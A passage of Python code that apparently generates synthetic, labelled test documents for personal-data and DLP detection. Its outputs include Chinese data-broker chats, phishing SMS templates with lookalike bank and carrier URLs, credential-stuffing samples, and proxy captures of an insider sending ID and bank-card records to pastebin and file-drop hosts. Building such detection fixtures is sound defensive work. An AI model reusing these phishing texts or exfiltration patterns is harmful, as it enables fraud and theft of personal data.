    # spoofing
    d.ln(hdr(11, sellers[5]))
    d.ln("改号软件 任意显号 可显 10086 / 10010 / 95588 / 95533 / 110，包接通不封号，日租 300U，月租 2000U")
    d.ln("伪基站短信群发 1000条/80元，模板自带，显示发件人 10086：")
    d.ln("  「【中国移动】尊敬的客户，您的积分 3,860 分将于今日清零，请登录 http://10086-jfdh.cc 兑换现金红包，退订回T」")
    d.ln("  「【工商银行】您尾号 6621 的账户于 06月12日 14:21 支出 ￥4,999.00，如非本人操作请拨打 95588-8 或登录 http://icbc-safe.top」")
    d.ln("软件版本 v8.3.2.1045，安卓 / iOS 双端，授权码一机一码")
    d.ln("")
    # car owners
    d.ln(hdr(12, "车险代理-老周 (@chexian_zhou)"))
    d.ln("收 广东 浙江 车主数据 要 姓名+车牌+手机 最好带到期时间 有的来")
    d.ln("")
    d.ln(hdr(12, sellers[1]))
    d.ln("车主库 2024Q2 新鲜的，0.8/条，样本：")
    for p in people(6):
        if not p.plate:
            p.plate = make_plate(p.prov)
        d.ln(L(plate_str(p.plate), PLATE), "  ", L(p.name, N), "  ", L(p.phone, PH), "  交强险到期 2024-0%d-%02d" % (R.randint(7, 9), R.randint(1, 28)))
    d.ln("VIN 码另加 0.2：例 LSGPC52U6AF" + rdig(6) + "（不单卖）")
    d.ln("")
    # SIM sellers
    d.ln(hdr(12, sellers[2]))
    d.ln("收 移动 实名卡 在网半年以上 带服务密码 200一张；出 物联网卡 1440 开头 13 位 不实名 30/张")
    d.ln("回收的卡信息这样发：")
    for p in people(3):
        d.ln("号码 ", L(p.phone, PH), " / ICCID ", L(p.iccid, ICCID), " / 服务密码 ", L(p.svc_pwd, CRED), " / 机主 ", L(p.name, N))
    d.ln("")
    # passports
    d.ln(hdr(12, sellers[3]))
    d.ln("出 护照信息 + 手持照 做境外账户用，一套 150U")
    for p in people(3):
        pp = p.passport or make_passport()
        d.ln("  ", L(p.name, N), " / ", L(p.py_s.upper() + " " + p.py_g.upper(), N), " / 护照 ", L(pp, PP), " / 出生 ",
             L(fmt_dob(p.dob, 0), DOB), " / 手机 ", L(fmt_phone(p.phone, 1), PH))
    d.ln("")
    # QQ style section
    d.ln("==================== QQ群 「社工交流-3群」(群号 739218345) 消息记录 ====================")
    clock[0] = dt.datetime(2024, 6, 12, 10, 40, 11)
    qq = [("卡商-阿杰", "2890123456"), ("收数据-阿飞", "1837462910"), ("技术-小白", "3012847561"), ("群主", "10001")]

    def qh(day, who):
        return "%s %s(%s)" % (tick(day).strftime("%Y-%m-%d %H:%M:%S"), who[0], who[1])

    d.ln(qh(12, qq[1]))
    d.ln("收 电商 收货地址 库，要 姓名 电话 地址 三项齐全的，价格好谈")
    d.ln("")
    d.ln(qh(12, qq[0]))
    d.ln("有 京东 淘宝 收货数据 30w，样本 [图片] 文字版：")
    for p in people(5):
        k = R.randrange(3)
        if k == 0:
            d.ln(L(p.name, N), "，", L(p.phone, PH), "，", L(p.addr.s(), ADDR))
        elif k == 1:
            d.ln("收货人:", L(p.name, N), " 电话:", L(fmt_phone(p.phone, 6), PH), " 地址:", L(p.addr.s(2), ADDR))
        else:
            d.ln(L(p.name, N), "\t", L(p.phone, PH), "\t", L(p.addr.s(1), ADDR), "\t快递 ", tracking())
    d.ln("")
    d.ln(qh(12, qq[2]))
    d.ln("撞库接口出租 每秒 200 次 带代理池，支持 163 / qq / 139 邮箱，成功样例：")
    for p in people(4):
        d.ln(L(p.email, EM), R.choice([":", "----"]), L(p.pwd, CRED), "  ✅ 登录成功  IP ", L(p.ip, IP))
    d.ln("")
    d.ln(qh(13, qq[1]))
    d.ln("付了 1,200U 到 TRC20 地址 TQn9Y2khEsLJW1ChVWFMSMeRDow5" + rhex(6, B62) + "，哈希 " + sha256hex() + " 查收")
    d.ln("")
    d.ln(qh(13, qq[0]))
    d.ln("收到。全量包 cust_full_0612.7z 4.6GB 已传网盘，链接和解压密码私发")
    d.ln("")
    d.ln(qh(13, qq[3]))
    d.ln("本群禁止发未打码样本！违者踢。样本一律打码，例：", mask_name("王秀英"), " 4101********4427 139****4522")
    d.ln("")
    # a victim asking
    d.ln(qh(13, ("路人甲", "2045581937")))
    p = people(1)[0]
    d.ln("有人拿我信息办了贷款，我叫", L(p.name, N), "，电话 ", L(p.phone, PH), "，谁卖的站出来，已报警 110 和 12321")
    d.ln("")
    d.ln(qh(13, qq[0]))
    d.ln("[该消息已撤回]")
    return d


# ----------------------------------------------------------------------------- 4 DLP proxy capture

UA = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.6422.142 Safari/537.36",
      "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
      "python-requests/2.31.0", "curl/7.81.0", "okhttp/4.12.0",
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36 Edg/109.0.1518.140"]


def f_http():
    d = Doc("dlp_proxy_http_capture_20240612.log")
    d.ln("# DLP-GW 7.4.2 (build 20240418) — ICAP/SSL-inspection capture, policy set PI-OUTBOUND v2024.05")
    d.ln("# node gz-dlp-02  sensor_id 3f6b0c1e  timezone +08:00  export by ", L(SECOPS[0].name, N), " for IR-2024-0613-002")
    d.ln("")
    cap = [1042871]
    clock = [dt.datetime(2024, 6, 12, 9, 2, 11)]

    def record(src_ip, dst_host, dst_ip, method, path, ctype, body, action, matched, extra_headers=()):
        cap[0] += R.randint(3, 400)
        clock[0] += dt.timedelta(seconds=R.randint(200, 2400))
        t = clock[0].strftime("%Y-%m-%dT%H:%M:%S") + ".%03d+08:00" % R.randint(0, 999)
        user = "liujg" if src_ip == INSIDER.ws_ip else R.choice(["chenxm", "gz_temp01", "huanglj", "svc_crm_sync"])
        d.ln("==== capture #%d  %s ====" % (cap[0], t))
        d.ln("src=", L(src_ip, IP), ":%d user=%s dst=%s (" % (R.randint(49152, 65535), user, dst_host),
             L(dst_ip, IP) if dst_ip else "unresolved", "):443 tls=inspected policy=", R.choice(["PI-OUTBOUND-03", "PI-OUTBOUND-05", "PI-BULK-01"]),
             " action=", action, " matched=[", matched, "] trace_id=", rhex(32))
        d.ln(method, " ", path, " HTTP/1.1")
        d.ln("Host: ", dst_host)
        d.ln("User-Agent: ", R.choice(UA))
        for h in extra_headers:
            d.ln(h)
        if body is not None:
            d.ln("Content-Type: ", ctype)
            d.ln("Content-Length: ", str(len(body.buf)))
        d.ln("Accept-Encoding: gzip, deflate, br")
        d.ln("X-Request-Id: ", uuid4())
        d.ln("")
        if body is not None:
            d.extend(body)
            d.ln("")
        d.ln("")

    ws = INSIDER.ws_ip
    # 1. four-element verification, urlencoded utf-8
    for i in range(3):
        p = people(1)[0]
        b = Doc("")
        parts = ["appKey=ak_2f9c81d0&", "appSecret=", L(APP_SECRET, CRED), "&name=", L(p.name, N), "&idNo=", L(p.id, RID), "&mobile=",
                 L(p.phone, PH), "&bankCardNo=", L(p.card, BC), "&timestamp=", ms_ts(), "&nonce=", rhex(16), "&sign=", md5hex().upper()]
        enc = [mapv(x, url_utf8) if isinstance(x, tuple) and x[1] in (N,) else x for x in parts]
        b.w(enc)
        record(ws, "api.yzsys-verify.com", "47.%d.%d.%d" % (R.randint(90, 120), R.randint(0, 255), R.randint(1, 254)), "POST",
               "/v2/bankcard/verify4", "application/x-www-form-urlencoded; charset=UTF-8", b, "BLOCK", "ID_NUMBER x1, BANK_CARD x1, MOBILE x1")
    # 2. webmail login + compose (urlencoded, multi-field)
    p = BUYER
    b = Doc("")
    b.w("uid=", L(url_utf8(INSIDER.corp_mail.replace("@gd.chinamobile.com", "_gz@163.com")), EM), "&password=",
        L(url_utf8("Ljg@" + "0618" + "!"), CRED), "&savelogin=1&url2=http%3A%2F%2Fmail.163.com%2Ferrorpage%2Ferror163.htm&product=mail163")
    record(ws, "mail.163.com", "220.181.%d.%d" % (R.randint(0, 255), R.randint(1, 254)), "POST", "/entry/cgi/ntesdoor?df=mail163_letter&from=web",
           "application/x-www-form-urlencoded", b, "ALERT", "CREDENTIAL x1")
    b = Doc("")
    rows = people(7)
    text = ["王哥，剩下的：\n"]
    for p in rows:
        text += [L(p.name, N), " ", L(p.id, RID), " ", L(fmt_phone(p.phone, R.choice([0, 6])), PH), " ", L(p.addr.s(R.choice([0, 1, 2])), ADDR), "\n"]
    text += ["-- \n刘"]
    b.w("to=", L(url_utf8(BUYER.qqmail), EM), "&subject=", url_utf8("资料 0612 第二批"), "&content=", mapv(text, url_utf8),
        "&sid=", token(24), "&action=deliver")
    record(ws, "mail.163.com", "220.181.%d.%d" % (R.randint(0, 255), R.randint(1, 254)), "POST", "/js6/s?sid=" + token(24) + "&func=mbox:compose",
           "application/x-www-form-urlencoded; charset=UTF-8", b, "BLOCK", "NAME x7, ID_NUMBER x7, MOBILE x7, ADDRESS x7")
    # 3. GBK form to a legacy agent system
    for i in range(2):
        p = people(1)[0]
        b = Doc("")
        b.w("op=save&khbh=", "KH" + order_no(n=12), "&xm=", L(url_gbk(p.name), N), "&xb=", url_gbk("男" if p.male else "女"),
            "&sfzh=", L(p.id, RID), "&csrq=", L(p.dob.strftime("%Y-%m-%d"), DOB), "&lxdh=", L(p.phone, PH),
            "&gddh=", L(url_gbk(fmt_land(p.area, landline(p.area), 0)), PH), "&txdz=", L(url_gbk(p.addr.s(0)), ADDR),
            "&tcmc=", url_gbk(R.choice(PKGS)), "&jbr=", L(url_gbk(MANAGERS[i].name), N))
        record(ws, "dl.gz-daili-yyt.cn", "119.%d.%d.%d" % (R.randint(0, 255), R.randint(0, 255), R.randint(1, 254)), "POST", "/yyt/khxx.do",
               "application/x-www-form-urlencoded; charset=GBK", b, "ALERT", "NAME x2, ID_NUMBER x1, MOBILE x2, ADDRESS x1")
    # 4. multipart with CSV attachment
    bd = "----WebKitFormBoundary" + token(16)
    b = Doc("")
    up_tok = token(40, "ut_")
    b.ln("--" + bd, nl="\r\n")
    b.ln('Content-Disposition: form-data; name="token"', nl="\r\n")
    b.ln("", nl="\r\n")
    b.ln(L(up_tok, CRED), nl="\r\n")
    b.ln("--" + bd, nl="\r\n")
    b.ln('Content-Disposition: form-data; name="expire"', nl="\r\n")
    b.ln("", nl="\r\n")
    b.ln("7d", nl="\r\n")
    b.ln("--" + bd, nl="\r\n")
    b.ln('Content-Disposition: form-data; name="file"; filename="cust_sz_0612.csv"', nl="\r\n")
    b.ln("Content-Type: text/csv", nl="\r\n")
    b.ln("", nl="\r\n")
    b.ln("cust_name,cert_no,mobile,email,address,arpu", nl="\r\n")
    for p in people(10):
        a = p.addr.s(R.choice([0, 1]))
        b.ln(L(p.name, N), ",", L(p.id, RID), ",", L(p.phone, PH), ",", L(p.email, EM) if R.random() < 0.7 else "", ",",
             ['"', L(a, ADDR), '"'] if R.random() < 0.3 else L(a, ADDR), ",", "%.2f" % R.uniform(58, 420), nl="\r\n")
    b.ln("--" + bd + "--", nl="\r\n")
    record(ws, "transfer.sh-mirror.net", VPS_IP, "POST", "/upload", "multipart/form-data; boundary=" + bd, b, "BLOCK",
           "ID_NUMBER x10, MOBILE x10, NAME x10 (attachment cust_sz_0612.csv 1.8 KB)")
    # 5. JSON batch API
    b = Doc("")
    recs = []
    for p in people(6):
        r = ['{"name":"', L(p.name, N), '","certNo":"', L(p.id, RID), '","msisdn":"', L(p.phone, PH), '"']
        if R.random() < 0.5:
            r += [',"birthday":"', L(p.dob.strftime("%Y-%m-%d"), DOB), '"']
        if R.random() < 0.5:
            r += [',"imei":"', L(p.imei, IMEI), '","imsi":"', L(p.imsi, IMSI), '"']
        r += [',"orderId":"', order_no(n=19), '"}']
        recs.append(r)
    b.w('{"appId":"app_9931027","timestamp":', ms_ts(), ',"sign":"', sha256hex(), '","sessionId":"', uuid4(),
        '","records":[', [[("," if i else ""), r] for i, r in enumerate(recs)], '],"version":"2.4.1"}')
    record(ws, "open.shuju-hub.com", "8.%d.%d.%d" % (R.randint(130, 140), R.randint(0, 255), R.randint(1, 254)), "POST", "/api/v1/batch/enrich",
           "application/json;charset=UTF-8", b, "BLOCK", "ID_NUMBER x6, MOBILE x6",
           extra_headers=[["Authorization: Bearer ", L(jwt({"sub": "liujg", "iat": 1718170000, "exp": 1718256400}), CRED)]])
    # 6. JSON with \\u escapes (ensure_ascii)
    b = Doc("")
    ps = people(4)
    items = []
    for p in ps:
        items.append(['{"custName":"', mapv(L(p.name, N), json_esc_ascii), '","idCard":"', L(p.id, RID), '","phone":"', L(p.phone, PH),
                      '","addr":"', mapv(L(p.addr.s(0), ADDR), json_esc_ascii), '","level":"', json_esc_ascii("钻石卡" if R.random() < 0.5 else "金卡"), '"}'])
    b.w('{"batch":"', order_no("B", 16), '","size":4,"data":[', [[("," if i else ""), r] for i, r in enumerate(items)], "]}")
    record(ws, "hook.feishu-bot.cn", None, "POST", "/open-apis/bot/v2/hook/" + uuid4(), "application/json", b, "BLOCK", "ID_NUMBER x4 (\\u-escaped JSON)")
    # 7. pastebin API
    b = Doc("")
    dev_key = rhex(32)
    rows = ["姓名\t身份证\t手机\t银行卡\n"]
    for p in people(6):
        rows += [L(p.name, N), "\t", L(p.id, RID), "\t", L(p.phone, PH), "\t", L(p.card, BC), "\n"]
    b.w("api_option=paste&api_dev_key=", L(dev_key, CRED), "&api_paste_private=1&api_paste_name=", url_utf8("gd sample 0612"),
        "&api_paste_expire_date=1W&api_paste_format=text&api_paste_code=", mapv(rows, url_utf8))
    record(ws, "pastebin.com", "104.20.%d.%d" % (R.randint(60, 70), R.randint(1, 254)), "POST", "/api/api_post.php",
           "application/x-www-form-urlencoded", b, "BLOCK", "ID_NUMBER x6, BANK_CARD x6")
    # 8. DingTalk robot with access_token in URL, JSON text content
    p = people(1)[0]
    b = Doc("")
    msg = ["客户 ", L(p.name, N), " 已办理携号转网，证件 ", L(p.id, RID), "，新号码 ", L(p.phone, PH), "，装机地址 ",
           L(p.addr.s(1), ADDR), "，联系人 ", L(MANAGERS[2].name, N), " ", L(MANAGERS[2].phone, PH)]
    b.w('{"msgtype":"text","text":{"content":"', mapv(msg, json_esc), '"},"at":{"atMobiles":["', L(MANAGERS[3].phone, PH), '"],"isAtAll":false}}')
    at = rhex(64)
    record(lan_ip(), "oapi.dingtalk.com", "203.119.%d.%d" % (R.randint(0, 255), R.randint(1, 254)), "POST",
           ["/robot/send?access_token=", L(at, CRED)], "application/json", b, "ALERT", "ID_NUMBER x1, MOBILE x3")
    # 9. location share
    for i in range(2):
        p = people(1)[0]
        b = Doc("")
        b.w("msisdn=", L(p.phone, PH), "&imsi=", L(p.imsi, IMSI), "&lat=", L("%.6f" % p.lat, GEO), "&lng=", L("%.6f" % p.lon, GEO),
            "&acc=", str(R.choice([35, 120, 300, 800])), "&ts=", ms_ts(), "&src=gps")
        record(ws, "loc.qiyou-track.com", None, "POST", "/api/push", "application/x-www-form-urlencoded", b, "ALERT", "IMSI x1, LOCATION x1")
    # 10. multipart with form fields + JSON file
    bd = "----------------------------" + rdig(24)
    b = Doc("")
    p = people(1)[0]
    b.ln("--" + bd, nl="\r\n")
    b.ln('Content-Disposition: form-data; name="realname"', nl="\r\n")
    b.ln("", nl="\r\n")
    b.ln(L(p.name, N), nl="\r\n")
    b.ln("--" + bd, nl="\r\n")
    b.ln('Content-Disposition: form-data; name="phone"', nl="\r\n")
    b.ln("", nl="\r\n")
    b.ln(L(fmt_phone(p.phone, 2), PH), nl="\r\n")
    b.ln("--" + bd, nl="\r\n")
    b.ln('Content-Disposition: form-data; name="data"; filename="devices.json"', nl="\r\n")
    b.ln("Content-Type: application/json", nl="\r\n")
    b.ln("", nl="\r\n")
    b.w("[")
    for i, q in enumerate(people(4)):
        b.w("," if i else "", '\n  {"msisdn":"', L(q.phone, PH), '","imei":"', L(q.imei, IMEI), '","iccid":"', L(q.iccid, ICCID),
            '","model":"', R.choice(["HUAWEI Mate 60 Pro", "Xiaomi 14", "OPPO Reno11", "vivo X100", "iPhone 15"]),
            '","fw":"', R.choice(["4.0.0.126", "14.0.8.0", "ColorOS 14.0.1", "17.5.1"]), '"}')
    b.ln("\n]", nl="\r\n")
    b.ln("--" + bd + "--", nl="\r\n")
    record(ws, "upload.wetransfer-cn.net", "154.%d.%d.%d" % (R.randint(0, 255), R.randint(0, 255), R.randint(1, 254)), "POST", "/v1/files",
           "multipart/form-data; boundary=" + bd, b, "BLOCK", "IMEI x4, ICCID x4")
    # 11. GET with PI in query string (percent-encoded with %20)
    p = people(1)[0]
    q = ["/query?name=", L(url_pct20(p.name), N), "&id=", L(p.id, RID), "&email=", L(url_pct20(p.email), EM), "&addr=",
         L(url_pct20(p.addr.s(2)), ADDR), "&_=", ms_ts()]
    record(ws, "cx.sgk-query.xyz", None, "GET", q, None, None, "BLOCK", "ID_NUMBER x1, ADDRESS x1")
    # 12. benign noise record
    b = Doc("")
    b.w('{"event":"heartbeat","ver":"10.0.19041.1","agent":"7.4.2.1180","ts":', ms_ts(), ',"seq":', str(R.randint(100000, 999999)),
        ',"disk_free":"184329012","hotline":"10086","order":"', order_no(n=20), '","hash":"', sha1hex(), '"}')
    record(lan_ip(), "telemetry.corp-av.cn", None, "POST", "/api/hb", "application/json", b, "PASS", "-")
    return d


# ----------------------------------------------------------------------------- 5 e-mail


def b64hdr(s):
    return "=?UTF-8?B?" + base64.b64encode(s.encode()).decode() + "?="


def f_mail():
    d = Doc("quarantined_outbound_mail.mbox")
    ins, buyer = INSIDER, BUYER
    mid1 = "<%s.%s@gd.chinamobile.com>" % (ms_ts(), rhex(8))
    rows = people(18)
    # message 1
    d.ln("From MAILER-DAEMON Wed Jun 12 19:42:11 2024")
    d.ln("Return-Path: <", L(ins.corp_mail, EM), ">")
    d.ln("Received: from GZ-PC-0231 ([", L(ins.ws_ip, IP), "]) by mail.gd.chinamobile.com (Coremail) with SMTP id ", token(22), "; Wed, 12 Jun 2024 19:42:08 +0800")
    d.ln("X-DLP-Verdict: QUARANTINE; rule=PI-OUTBOUND-07; score=97; matches=ID_NUMBER:18,MOBILE:18")
    d.ln("X-Originating-IP: [", L(ins.ws_ip, IP), "]")
    d.ln("From: ", b64hdr(ins.name), " <", L(ins.corp_mail, EM), ">")
    d.ln("To: \"", L(buyer.name, N), "\" <", L(buyer.qqmail, EM), ">")
    d.ln("Subject: ", b64hdr("资料 样本"))
    d.ln("Date: Wed, 12 Jun 2024 19:42:05 +0800")
    d.ln("Message-ID: ", mid1)
    d.ln("X-Mailer: Coremail Webmail Server Version 2023.2-cmXT5 build 20231204(5b5d2a2c)")
    d.ln("MIME-Version: 1.0")
    d.ln("Content-Type: text/plain; charset=UTF-8")
    d.ln("Content-Transfer-Encoding: 8bit")
    d.ln("")
    d.ln("王哥：")
    d.ln("")
    d.ln("按你要的，先发 18 条样本，天河和南山的，剩下的周五前整理好。价钱按之前说的 0.8 元/条，")
    d.ln("打到老账户就行。别转发，看完删掉。")
    d.ln("")
    d.ln("序号 | 姓名 | 身份证号 | 手机号 | 地址 | 套餐 | 近3月ARPU")
    d.ln("-----+------+----------+--------+------+------+----------")
    for i, p in enumerate(rows):
        d.ln("%d | " % (i + 1), L(p.name, N), " | ", L(fmt_id(p.id), RID), " | ", L(p.phone, PH), " | ", L(p.addr.s(R.choice([0, 1])), ADDR),
             " | ", R.choice(PKGS), " | ", "%.2f" % R.uniform(80, 380))
    d.ln("")
    d.ln("有问题打我私人号 ", L(fmt_phone(ins.phone2, 5), PH), "，别打座机。")
    d.ln("")
    d.ln("--")
    d.ln("发自我的手机")
    d.ln("")
    # message 2: reply quoting rows
    d.ln("From MAILER-DAEMON Wed Jun 12 21:03:40 2024")
    d.ln("Return-Path: <", L(buyer.qqmail, EM), ">")
    d.ln("Received: from smtpbg.qq.com (smtpbg", rdig(3), ".qq.com [", L("43.155.%d.%d" % (R.randint(0, 255), R.randint(1, 254)), IP),
         "]) by mx.gd.chinamobile.com; Wed, 12 Jun 2024 21:03:38 +0800")
    d.ln("X-DLP-Verdict: QUARANTINE; rule=PI-INBOUND-02; score=88")
    d.ln("From: \"", b64hdr("王哥"), "\" <", L(buyer.qqmail, EM), ">")
    d.ln("To: ", L(ins.corp_mail, EM))
    d.ln("Subject: ", b64hdr("回复：资料 样本"))
    d.ln("In-Reply-To: ", mid1)
    d.ln("Date: Wed, 12 Jun 2024 21:03:31 +0800")
    d.ln("MIME-Version: 1.0")
    d.ln("Content-Type: text/plain; charset=UTF-8")
    d.ln("Content-Transfer-Encoding: 8bit")
    d.ln("")
    d.ln("收到。第 3 条和第 7 条号码停机了，换两个。另外下批要带银行卡号的，加 0.5。")
    d.ln("")
    d.ln("钱今晚转，尾号 ", "%04d" % R.randint(0, 9999), " 的卡。")
    d.ln("")
    d.ln("------------------ 原始邮件 ------------------")
    d.ln("发件人: \"", L(ins.name, N), "\"<", L(ins.corp_mail, EM), ">;")
    d.ln("发送时间: 2024年6月12日(星期三) 晚上7:42")
    d.ln("收件人: \"", L(buyer.name, N), "\"<", L(buyer.qqmail, EM), ">;")
    d.ln("")
    for i in (2, 6):
        p = rows[i]
        d.ln("> %d | " % (i + 1), L(p.name, N), " | ", L(p.id, RID), " | ", L(p.phone, PH), " | ...")
    d.ln("")
    # message 3: fixed-width table with card numbers
    d.ln("From MAILER-DAEMON Thu Jun 13 08:15:02 2024")
    d.ln("Return-Path: <", L(ins.corp_mail, EM), ">")
    d.ln("Received: from GZ-PC-0231 ([", L(ins.ws_ip, IP), "]) by mail.gd.chinamobile.com (Coremail); Thu, 13 Jun 2024 08:14:59 +0800")
    d.ln("X-DLP-Verdict: QUARANTINE; rule=PI-OUTBOUND-07,PI-BANKCARD-01; score=99")
    d.ln("From: ", b64hdr(ins.name), " <", L(ins.corp_mail, EM), ">")
    d.ln("To: ", L(buyer.qqmail, EM))
    d.ln("Cc: ", L(ins.py_s + ins.py_g + "1972@126.com", EM))
    d.ln("Subject: ", b64hdr("补 2 条 + 带卡号"))
    d.ln("Date: Thu, 13 Jun 2024 08:14:52 +0800")
    d.ln("MIME-Version: 1.0")
    d.ln("Content-Type: text/plain; charset=UTF-8")
    d.ln("Content-Transfer-Encoding: 8bit")
    d.ln("")
    d.ln("补的两个，另外带卡号的先给 8 个：")
    d.ln("")
    d.ln("姓名        手机号            银行卡号                 开户行    出生日期")
    for p in people(10):
        nm = p.name
        pad = "　" * max(0, 4 - len(nm))
        d.ln(L(nm, N), pad, "    ", L(fmt_phone(p.phone, R.choice([0, 6])), PH), "    ", L(fmt_card(p.card, R.choice([0, 1])), BC), "    ",
             R.choice(["工行", "建行", "农行", "招行", "中行"]), "    ", L(fmt_dob(p.dob, R.choice([0, 6])), DOB))
    d.ln("")
    d.ln(L(ins.name, N), " | 广州分公司 政企客户部 | 手机 ", L(ins.phone, PH), " | 服务热线 10086")
    d.ln("本邮件及其附件含有中国移动的保密信息…… (disclaimer v3.1)")
    d.ln("")
    return d


# ----------------------------------------------------------------------------- 6 GBK CSV


def f_gbk_csv():
    d = Doc("crm_export_gbk_202406.csv", encoding="gbk")
    nl = "\r\n"
    d.ln("序号,客户编号,客户姓名,性别,证件类型,证件号码,出生日期,联系电话,备用电话,联系地址,入网日期,主套餐,近三月ARPU(元),代扣银行卡号,客户经理,备注", nl=nl)
    for i, p in enumerate(people(28)):
        row = [str(i + 1), "KH" + order_no(n=14, when="2024")]
        row.append(L(p.name, N))
        row.append("男" if p.male else "女")
        if p.passport and R.random() < 0.4:
            row += ["护照", L(p.passport, PP)]
        elif i == 11:
            row += ["身份证", "1.10105E+17"]    # Excel-mangled: value lost, not labelled
        else:
            row += ["身份证", ['="', L(p.id, RID), '"'] if R.random() < 0.25 else L(fmt_id(p.id), RID)]
        row.append(L(fmt_dob(p.dob, R.choice([0, 1, 6])), DOB))
        row.append(L(fmt_phone(p.phone, R.choice([0, 0, 0, 5])), PH))
        if p.land:
            row.append(L(fmt_land(p.area, p.land, R.choice([0, 1])), PH))
        elif p.phone2:
            row.append(L(p.phone2, PH))
        else:
            row.append("")
        a = p.addr.s(R.choice([0, 0, 1, 2]))
        row.append(L(a, ADDR))
        row.append(past_dt().strftime("%Y/%m/%d"))
        row.append(R.choice(PKGS))
        row.append("%.2f" % R.uniform(19, 420))
        row.append(L(p.card, BC) if R.random() < 0.55 else "")
        row.append(L(R.choice(MANAGERS).name, N))
        k = R.random()
        if k < 0.12:
            o = R.choice(POOL[330:])
            row.append(["家属 ", L(o.name, N), " ", L(o.phone, PH)])
        elif k < 0.22:
            row.append(["集团：", R.choice(SURNAME_COMPANIES)])
        elif k < 0.3:
            row.append(["发票抬头税号 ", make_uscc()])
        elif k < 0.36:
            row.append(["携入 ", past_dt().strftime("%Y-%m-%d"), " 转网单号 ", order_no("XZ", 18)])
        else:
            row.append("")
        for j, c in enumerate(row):
            if j:
                d.w(",")
            txt = flat(c)
            if "," in txt:
                d.w('"', c, '"')
            else:
                d.w(c)
        d.w(nl)
    d.ln(",,,,,,,,,,,,合计,,,", nl=nl)
    d.ln("导出人：" , L(EXPORTER.name, N), ",导出时间：2024-06-12 09:31:22,,,,,,,,,,,,,,", nl=nl)
    return d


# ----------------------------------------------------------------------------- 7 mongoexport


def oid():
    return "%08x" % (1718170000 - R.randint(0, 60000000)) + rhex(16)


def f_mongo():
    d = Doc("mongoexport_appdb_users.json")
    ppl = people(19)
    ppl[5:5] = [MINORS[0]]
    ppl[14:14] = [MINORS[1]]
    for i, p in enumerate(ppl):
        parts = ['{"_id":{"$oid":"', oid(), '"},"uid":{"$numberLong":"', str(R.randint(10 ** 9, 9 * 10 ** 9)), '"}']
        parts += [',"nickname":"', R.choice(["星辰大海", "小猪佩奇", "追风少年", "momo", "Lucky", "一只鱼", "夜猫子", "阿狸"]) + str(R.randint(1, 999)), '"']
        parts += [',"realName":"', L(p.name, N), '"']
        if R.random() < 0.85:
            parts += [',"idCardNo":"', L(p.id, RID), '"']
        parts += [',"mobile":"', L(fmt_phone(p.phone, R.choice([0, 0, 7])), PH), '"']
        if R.random() < 0.6:
            parts += [',"email":"', L(p.email, EM), '"']
        if R.random() < 0.5:
            parts += [',"birthday":{"$date":"', L(p.dob.strftime("%Y-%m-%d"), DOB), 'T00:00:00Z"}']
        else:
            parts += [',"birthday":"', L(p.dob.strftime("%Y-%m-%d"), DOB), '"']
        parts += [',"passwordHash":"$2a$10$', "".join(R.choice(B62 + "./") for _ in range(53)), '"']
        devs = []
        for j in range(R.choice([1, 1, 2])):
            imei_v = p.imei if j == 0 else make_imei()
            dv = ['{"imei":"', L(imei_v, IMEI), '"']
            if j == 0:
                dv += [',"imsi":"', L(p.imsi, IMSI), '","iccid":"', L(p.iccid, ICCID), '"']
            dv += [',"model":"', R.choice(["HUAWEI P60", "Redmi K70", "OPPO Find X7", "vivo S18", "iPhone 14 Pro"]), '","osVersion":"',
                   R.choice(["HarmonyOS 4.0.0.126", "Android 14", "iOS 17.5.1", "MIUI 14.0.6"]), '","appVersion":"',
                   R.choice(["8.3.1", "8.2.0.1203", "7.9.12"]), '","pushId":"', rhex(32), '"}']
            devs.append(dv)
        parts += [',"devices":[', [[("," if j else ""), x] for j, x in enumerate(devs)], "]"]
        if R.random() < 0.75:
            parts += [',"home":{"address":"', L(p.addr.s(R.choice([0, 1])), ADDR), '","loc":{"type":"Point","coordinates":[',
                      L("%.6f,%.6f" % (p.lon, p.lat), GEO), "]}}"]
        if R.random() < 0.4 and p.plate:
            parts += [',"vehicles":[{"plate":"', L(plate_str(p.plate, 0), PLATE), '","etcCard":"', neg(lambda: rdig(20)), '"}]']
        if R.random() < 0.35:
            o = R.choice(POOL[380:])
            parts += [',"emergencyContact":{"name":"', L(o.name, N), '","relation":"', R.choice(["配偶", "父亲", "母亲", "朋友"]),
                      '","phone":"', L(o.phone, PH), '"}']
        parts += [',"lastLogin":{"ip":"', L(p.ip if R.random() < 0.8 else ipv6(), IP), '","at":{"$date":{"$numberLong":"', ms_ts(), '"}},"sessionId":"',
                  rhex(32).upper(), '"}']
        if R.random() < 0.4:
            parts += [',"lastPos":{"lat":', L("%.5f" % (p.lat + R.uniform(-0.02, 0.02)), GEO), ',"lng":', L("%.5f" % (p.lon + R.uniform(-0.02, 0.02)), GEO), ',"acc":', str(R.randint(10, 80)), '}']
        parts += [',"level":', str(R.randint(1, 6)), ',"points":', str(R.randint(0, 40000)), ',"createdAt":{"$date":"',
                  past_dt().strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % R.randint(0, 999), '"},"__v":0}']
        d.ln(parts)
    return d


# ----------------------------------------------------------------------------- 8 Redis


def f_redis():
    d = Doc("redis_cli_session_capture.txt")
    h = REDIS_NAME
    prompt = h + ":6379> "
    d.ln("$ redis-cli -h ", h, " -p 6379 -a '", L(REDIS_PWD, CRED), "' --no-auth-warning --raw")
    d.ln(prompt, "INFO server")
    d.ln("# Server\nredis_version:6.2.14\nredis_git_sha1:00000000\nredis_mode:standalone\nos:Linux 3.10.0-1160.108.1.el7.x86_64 x86_64")
    d.ln("process_id:21873\nrun_id:", sha1hex(), "\ntcp_port:6379\nuptime_in_seconds:8812734\nused_memory_human:3.42G\nexecutable:/usr/local/bin/redis-server")
    d.ln(prompt, "DBSIZE")
    d.ln("384211")
    ps = people(12)
    d.ln(prompt, "SCAN 0 MATCH user:*:profile COUNT 1000")
    d.ln(str(R.randint(100000, 999999)))
    for p in ps:
        d.ln("user:", L(p.phone, PH), ":profile")
    for p in ps[:8]:
        d.ln(prompt, "HGETALL user:", L(p.phone, PH), ":profile")
        fields = [("name", L(p.name, N)), ("idcard", L(p.id, RID)), ("level", str(R.randint(1, 5)))]
        if R.random() < 0.6:
            fields.append(("email", L(p.email, EM)))
        if R.random() < 0.7:
